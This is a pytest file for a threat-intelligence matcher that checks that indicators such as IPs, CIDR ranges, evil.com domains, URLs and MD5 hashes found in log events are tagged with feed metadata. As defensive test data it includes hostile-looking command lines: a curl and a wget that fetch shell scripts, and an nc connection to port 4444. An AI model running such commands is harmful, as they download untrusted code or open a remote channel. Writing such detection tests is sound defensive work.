"""Indicators in events as they pass."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from tocsin.core.clock import DAY
from tocsin.core.event import Event, Value
from tocsin.intel.match import MAX_HITS

if TYPE_CHECKING:
    from conftest import Intel


def event(message: str = "", fields: dict[str, Value] | None = None) -> Event:
    return Event("s", 1, 0, 0, message, dict(fields or {}))


def threat(one: Event) -> dict[str, Any]:
    prefix = "threat.indicator."
    return {name.removeprefix(prefix): value for name, value in one.fields.items() if name.startswith(prefix)}


@pytest.mark.parametrize(
    ("indicator", "field", "value"),
    [
        ("8.8.1.1", "source.ip", "8.8.1.1"),
        ("8.8.0.0/16", "destination.ip", "8.8.1.1"),
        ("2001:4860::1", "source.ip", "2001:4860:0::1"),
        ("evil.com", "url.domain", "a.evil.com"),
        ("evil.com", "dns.question.name", "EVIL.COM."),
        ("http://evil.com/x", "url.full", "https://evil.com/x"),
        ("evil.com", "url.original", "http://evil.com/x"),
        ("8.8.1.1", "url.full", "http://8.8.1.1/x"),
        ("8.8.0.0/16", "url.full", "http://8.8.1.1/x"),
        ("a" * 32, "file.hash.md5", "A" * 32),
        ("8.8.1.1", "process.command_line", "curl -s http://8.8.1.1/x.sh"),
        ("8.8.1.1", "process.command_line", "nc 8.8.1.1 4444"),
        ("8.8.1.1", "source.ip", ["1.1.1.1", "8.8.1.1"]),
    ],
)
def test_hit_is_noted(intel: Intel, indicator: str, field: str, value: Value) -> None:
    """Each field that may hold an indicator is looked up, parents and networks included."""
    intel.load(indicator, feed="F")
    one = event(fields={field: value})
    intel.matcher.match([one])
    found = threat(one)
    assert (found["feed"], found["field"], len(found["id"])) == (["F"], [field], 1)
    assert found["value"][0] == intel.values()[0]


def test_url_in_the_message_is_noted(intel: Intel) -> None:
    """A message that holds a URL is read too."""
    intel.load("evil.com")
    one = event("COMMAND=/usr/bin/wget http://x.evil.com/a.sh")
    intel.matcher.match([one])
    assert threat(one)["field"] == ["message"]


def test_event_without_a_hit_is_untouched(intel: Intel) -> None:
    """Nothing is added to an event that holds no indicator, junk in typed fields included."""
    intel.load("8.8.1.1\nevil.com\n8.9.0.0/16")
    fields: dict[str, Value] = {
        "source.ip": "not an address",
        "destination.ip": 7,
        "url.original": "/x",
        "url.domain": "good.com",
        "file.hash.md5": "",
    }
    one = event("plain http:// text", fields)
    intel.matcher.match([one, event()])
    assert fields == one.fields


def test_same_value_in_two_places_and_two_feeds(intel: Intel) -> None:
    """Each feed's claim is noted once per event, the lists in step."""
    intel.load("8.8.1.1", feed="A")
    intel.load("8.8.1.1", feed="B")
    one, other = (
        event(fields={"source.ip": "8.8.1.1", "destination.ip": "8.8.1.1"}),
        event(fields={"source.ip": "8.8.1.1"}),
    )
    intel.matcher.match([one, other])
    for each in (one, other):
        assert threat(each)["feed"] == ["A", "B"]
        assert {2} == {len(values) for values in threat(each).values()}


def test_warninglisted_value_is_noted_and_not_matched(intel: Intel) -> None:
    """A value on a warninglist gives the list's name and no indicator."""
    intel.load("10.1.1.1\n8.8.8.8\n")
    one = event(fields={"source.ip": "10.1.1.1", "destination.ip": "8.8.8.8"})
    intel.matcher.match([one])
    assert threat(one) == {"warninglist": ["Private networks", "Public DNS resolvers"]}


def test_expired_indicator_does_not_match(intel: Intel) -> None:
    """An indicator stops matching when it expires, without any other change."""
    intel.load("8.8.1.1", valid_until_at=intel.clock.now() + DAY)
    before, after = event(fields={"source.ip": "8.8.1.1"}), event(fields={"source.ip": "8.8.1.1"})
    intel.matcher.match([before])
    intel.clock.advance(2 * DAY)
    intel.matcher.match([after])
    assert threat(before) != {}
    assert threat(after) == {}


def test_import_takes_effect_at_the_next_batch(intel: Intel) -> None:
    """A value once clean is looked up again after an import, and one removed no longer hits."""
    intel.load("8.8.1.1")
    first, second, third = (event(fields={"source.ip": "8.8.1.2"}) for _ in range(3))
    intel.matcher.match([first])
    intel.load("8.8.1.2")
    intel.matcher.match([second])
    intel.load("8.8.1.3")
    intel.matcher.match([third])
    assert [threat(first) != {}, threat(second) != {}, threat(third) != {}] == [False, True, False]


def test_number_of_hits_is_bounded(intel: Intel) -> None:
    """One event notes no more than the limit."""
    intel.load("\n".join(f"8.8.1.{number}" for number in range(50)))
    one = event(fields={"source.ip": [f"8.8.1.{number}" for number in range(50)]})
    intel.matcher.match([one])
    assert len(threat(one)["id"]) == MAX_HITS


def test_matching_twice_changes_nothing(intel: Intel) -> None:
    """A batch matched again after a retry keeps its fields as they were."""
    intel.load("8.8.1.1")
    one = event(fields={"source.ip": "8.8.1.1"})
    intel.matcher.match([one])
    before = {name: list(value) if isinstance(value, list) else value for name, value in one.fields.items()}
    intel.matcher.match([one])
    assert before == one.fields
